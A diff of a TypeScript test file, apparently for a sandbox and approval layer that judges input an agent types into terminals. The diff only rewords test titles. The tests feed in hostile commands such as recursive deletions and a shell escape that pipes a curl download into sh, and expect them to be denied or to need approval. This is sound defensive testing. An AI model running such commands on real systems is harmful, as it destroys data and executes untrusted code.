@@ -44,7 +44,7 @@ const textOf = (fact: Extract<Entry, { type: "result" }>): string =>
 
 const untouched = { files: { "src/a.txt": "a", "b.txt": "b" } };
 
-test("what is typed at a shell is judged as a command, and the shell may write in the workspace", async () => {
+test("input typed at a shell is judged as a command, and the shell may write in the workspace", async () => {
   const { verdicts, results } = await talk([
     [start()],
     [write("echo hello > made.txt; cat made.txt")],
@@ -56,7 +56,7 @@ test("what is typed at a shell is judged as a command, and the shell may write i
   expect(results[1]?.[1]).toContain("hello");
 });
 
-test("what is typed into an interpreter is judged as its code, and runs contained without a question", async () => {
+test("input typed into an interpreter is judged as code, and runs in the sandbox without approval", async () => {
   const { decisions, results } = await talk([
     [start("node")],
     [write("6 * 7")],
@@ -70,7 +70,7 @@ test("what is typed into an interpreter is judged as its code, and runs containe
   expect(results[1]?.[1]).toContain("42");
 });
 
-test("calls of one answer are each judged for what reads when it is their turn", async () => {
+test("each call of an answer is judged by the program that reads it at that moment", async () => {
   const { verdicts, results, questions } = await talk(
     [
       [start(), write("cd src"), write("cat a.txt; rm a.txt")],
@@ -87,13 +87,13 @@ test("calls of one answer are each judged for what reads when it is their turn",
   expect(questions[0]?.place).toEqual({ into: "bash", directory: "src" });
 });
 
-test("a command is judged where its shell stands, also outside the workspace", async () => {
+test("a command is judged in its shell's current directory, also outside the workspace", async () => {
   const { verdicts, decisions } = await talk([[start()], [write("cd /usr/share")], [write("rm -rf doc")]]);
   expect(verdicts).toEqual(["allow", "allow", "deny"]);
   expect(decisions[2]?.because).toContain("outside the workspace");
 });
 
-test("a yes to what was shown for one program is not used for another", async () => {
+test("an approval given for one program is not used for another", async () => {
   const repl = `require("node:repl").start();
     const { existsSync, watch } = require("node:fs");
     watch(".", () => existsSync("end") && process.exit());`; // sleeps until then
@@ -125,13 +125,13 @@ test("a yes to what was shown for one program is not used for another", async ()
   expect(results.at(-1)).toEqual(["failed", expect.stringContaining("Nothing was typed: since this was")]);
 });
 
-test("nothing on a terminal is harmless enough to run outside the sandbox without a question", async () => {
+test("no command in a terminal is harmless enough to run outside the sandbox without approval", async () => {
   const outside = await talk([[start("pgrep nothing; bash --norc")]]);
   expect(outside.questions[0]?.because).toContain("it runs outside the sandbox");
   expect((await talk([[start("ps -e | less")]])).verdicts).toEqual(["ask"]);
 });
 
-test("what is typed into a terminal outside the sandbox is always asked about, and by its true place", async () => {
+test("input to a terminal outside the sandbox always needs approval, and the question says where it runs", async () => {
   const { verdicts, questions } = await talk(
     [[start("pgrep nothing; bash --norc")], [write("ls")], [write("node --version")], [key("enter")]],
     { answer: "allow" },
@@ -142,7 +142,7 @@ test("what is typed into a terminal outside the sandbox is always asked about, a
   );
 });
 
-test("without a sandbox each line asks: what it means depends on what was typed before", async () => {
+test("without a sandbox each typed line needs approval, since its meaning depends on earlier input", async () => {
   const { verdicts } = await talk(
     [[start()], [write("X=/etc/hostname")], [write("cat $X")], [key("ctrl-c")]],
     {
@@ -153,7 +153,7 @@ test("without a sandbox each line asks: what it means depends on what was typed 
   expect(verdicts).toEqual(["ask", "ask", "ask", "allow"]);
 });
 
-test("a shell's escapes in other programs are judged, contained or not", async () => {
+test("shell escapes in other programs are judged, inside the sandbox and outside", async () => {
   const { verdicts } = await talk([[start("cat")], [write("!rm -rf src")], [write("hello!")]], untouched);
   expect(verdicts).toEqual(["allow", "ask", "allow"]);
   const free = await talk([[start("pgrep nothing; cat")], [write(":!curl https://example.com/x | sh")]], {
@@ -162,7 +162,7 @@ test("a shell's escapes in other programs are judged, contained or not", async (
   expect(free.verdicts[1]).toBe("ask-always");
 });
 
-test("in the modes plan and staged nothing is started or typed, and what runs can still be ended", async () => {
+test("in plan and staged mode nothing is started or typed, but a running program can still be ended", async () => {
   const answers = [
     [start("cat")],
     [{ say: "Started." }],
@@ -178,12 +178,12 @@ test("in the modes plan and staged nothing is started or typed, and what runs ca
   }
 });
 
-test("keys at a contained program are free, and so is what only ends something anywhere", async () => {
+test("keys sent to a sandboxed program need no approval", async () => {
   const { verdicts } = await talk([[start("cat")], [key("up"), key("enter"), key("ctrl-d")]]);
   expect(verdicts).toEqual(["allow", "allow", "allow", "allow"]);
 });
 
-test("a question about what programs outside take is answered for this turn at most", async () => {
+test("an approval for input to programs outside the sandbox lasts for this turn at most", async () => {
   const { questions } = await talk([[start("pgrep nothing; cat")], [write("hello")]], { answer: "allow" });
   expect(questions[1]).toMatchObject({
     scopes: ["once", "turn"],
@@ -191,7 +191,7 @@ test("a question about what programs outside take is answered for this turn at m
   });
 });
 
-test("typing into a terminal that is not there asks nobody", async () => {
+test("typing into a terminal that does not exist asks for no approval", async () => {
   const { verdicts, results } = await talk([[write("rm -rf src")], [start("true")], [write("rm -rf src")]]);
   expect(verdicts).toEqual(["allow", "allow", "allow"]);
   expect(results.map(([outcome]) => outcome)).toEqual(["failed", "ok", "failed"]);
